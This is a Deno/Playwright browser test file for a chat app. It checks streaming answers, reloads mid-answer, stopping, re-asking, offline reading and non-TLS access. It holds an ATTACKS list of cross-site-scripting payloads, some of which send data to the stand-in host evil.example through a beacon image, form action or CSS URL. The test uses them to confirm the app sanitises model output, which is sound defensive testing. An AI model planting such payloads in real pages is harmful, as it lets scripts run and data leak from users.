/// <reference lib="dom" />
/// <reference lib="dom.iterable" />
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { picture, PLAIN_HOST, signUpOnPage, visit } from "../support/browser.ts";
import { inspect } from "./inspect.ts";
import { ask, fixture, LIMIT_MS, options, waitForText, WORDS } from "./fixture.ts";

/** Attacks that an answer or a message could carry. */
const ATTACKS = [
  "<script>globalThis.owned = 1</script>",
  '<img src=x onerror="globalThis.owned = 2">',
  "[click](javascript:globalThis.owned=3)",
  '<svg><animate onbegin="globalThis.owned=4" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.owned=5</script>"></iframe>',
  '<a href="data:text/html,<script>owned=6</script>">six</a>',
  '<form action="https://evil.example"><input name=q><button>seven</button></form>',
  "![beacon](https://evil.example/pixel.png?said=secret)",
  '<math><mtext><table><mglyph><style><img src onerror="globalThis.owned=8">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/nine)">nine</div>',
  "<b id=app class=toasts>ten</b><base href=https://evil.example>",
];

const answer = (page: Page) => page.locator(".answer").last();

Deno.test(
  "chats in a browser: sign up, stream, reload in mid-answer, stop, ask again, offline",
  options,
  async (t) => {
    await using place = await fixture();
    const { provider, a, browser } = place;
    await using visitor = await visit(browser, a.url);
    const { page, context, faults } = visitor;
    page.setDefaultTimeout(LIMIT_MS);

    await t.step("sign up", async () => {
      await page.getByRole("heading", { name: "Create the first account" }).waitFor();
      await inspect(page, "sign_in");
      await signUpOnPage(page, "Ada Lovelace");
      await inspect(page, "chat_empty");
    });

    await t.step("an answer streams", async () => {
      provider.script = { tokens: ["# Tides\n\n", "Twice **a", " day**.\n\n", "- one\n", "- two"] };
      await ask(page, "Why are there tides?");
      await answer(page).getByRole("heading", { name: "Tides" }).waitFor();
      await answer(page).locator("strong", { hasText: "a day" }).waitFor();
      await answer(page).getByText("two").waitFor();
      await page.getByRole("button", { name: "Ask again" }).waitFor();
      await inspect(page, "chat");
    });

    await t.step("T6: a reload in mid-answer goes on, to the byte", async () => {
      provider.script = { tokens: WORDS, paceMs: 8 };
      await ask(page, "Count.");
      await waitForText(page, ".answer", "word40 ");
      await picture(page, "chat_streaming");
      await page.reload();
      await waitForText(page, ".answer", "word60 ");
      await waitForText(page, ".answer", "word299");
      const text = await answer(page).locator(".markdown").innerText();
      assert.equal(text.trim(), WORDS.join("").trim());
    });

    await t.step("stop ends it, and keeps what there is", async () => {
      provider.script = { tokens: WORDS.map((word) => `more-${word}`), paceMs: 20 };
      await ask(page, "Count again.");
      await waitForText(page, ".answer", "more-word9 ");
      await page.getByRole("button", { name: "Stop" }).click();
      await answer(page).getByText("Stopped before its end.").waitFor();
      const text = await answer(page).locator(".markdown").innerText();
      assert.ok(!text.includes("more-word299"));
      await page.reload();
      await answer(page).getByText("Stopped before its end.").waitFor();
    });

    await t.step("asked again, both answers stay", async () => {
      provider.script = { tokens: ["Another", " answer."] };
      await answer(page).getByRole("button", { name: "Ask again" }).click();
      await answer(page).getByText("Another answer.").waitFor();
      await answer(page).getByText("2 / 2").waitFor();
      await answer(page).getByRole("button", { name: "The answer before" }).click();
      await answer(page).getByText("Stopped before its end.").waitFor();
    });

    await t.step("no attack in an answer runs, loads or reshapes the page", async () => {
      provider.script = { tokens: ATTACKS.map((attack) => `${attack}\n\n`) };
      await ask(page, "Attack.");
      await page.locator(".answer footer").last().waitFor();
      await answer(page).getByText("toasts>ten").waitFor();
      await answer(page).getByRole("link", { name: "beacon" }).waitFor();
      const found = await page.evaluate(() => {
        const text = [...document.querySelectorAll(".markdown")].at(-1);
        return {
          owned: Reflect.get(globalThis, "owned"),
          bad: text?.querySelectorAll(
            "script,iframe,img,form,style,svg,base,[style],[id],[onerror]",
          ).length,
          links: [...text?.querySelectorAll("a") ?? []].map((link) => link.protocol),
        };
      });
      assert.equal(found.owned, undefined);
      assert.equal(found.bad, 0);
      assert.ok(
        found.links.every((protocol) => ["https:", "http:", ":"].includes(protocol)),
        String(found.links),
      );
    });

    await t.step("nothing failed, and nothing was complained about", () => {
      // A reload takes back what was on its way.
      assert.deepEqual(faults.filter((fault) => !fault.includes("ERR_ABORTED")), []);
    });

    await t.step("offline, the page opens and shows what was read", async () => {
      await page.evaluate(() => navigator.serviceWorker.ready);
      await page.reload();
      await answer(page).getByText("toasts>ten").waitFor();
      await context.setOffline(true);
      await page.reload();
      await answer(page).getByText("toasts>ten").waitFor();
      await page.getByText("No connection. You can read what is here").waitFor();
      await inspect(page, "offline");
      const width = await page.locator(".brand img").evaluate((image: HTMLImageElement) =>
        image.naturalWidth
      );
      assert.ok(width > 0, "the icon is there offline, too");
      assert.ok(await page.getByRole("button", { name: "Send" }).isDisabled());
      await context.setOffline(false);
      await page.locator(".light.online").waitFor({ state: "attached" });
    });
  },
);

Deno.test(
  "a page without TLS, in a private network: chats, channels and copying work",
  options,
  async () => {
    await using place = await fixture();
    const { provider, a, browser } = place;
    await using visitor = await visit(browser, a.url.replace("127.0.0.1", PLAIN_HOST));
    const { page, faults } = visitor;
    page.setDefaultTimeout(LIMIT_MS);
    assert.equal(await page.evaluate(() => isSecureContext), false);
    await signUpOnPage(page, "Ada");
    provider.script = { tokens: ["Plain", " words."] };
    await ask(page, "Hello");
    await answer(page).getByText("Plain words.").waitFor();
    await answer(page).getByRole("button", { name: "Copy" }).click();
    await page.getByText("Copied.").waitFor();
    await page.getByRole("button", { name: "New channel" }).click();
    await page.getByRole("textbox", { name: "New channel" }).fill("general");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "general", exact: true }).waitFor();
    await ask(page, "Hello there");
    await page.locator(".post", { hasText: "Hello there" }).waitFor();
    // Two headers mean something with TLS only, and the browser says that it passes over them.
    const headers = /^The Cross-Origin-Opener-Policy header|origin-keyed agent cluster/;
    assert.deepEqual(faults.filter((fault) => !headers.test(fault)), []);
  },
);
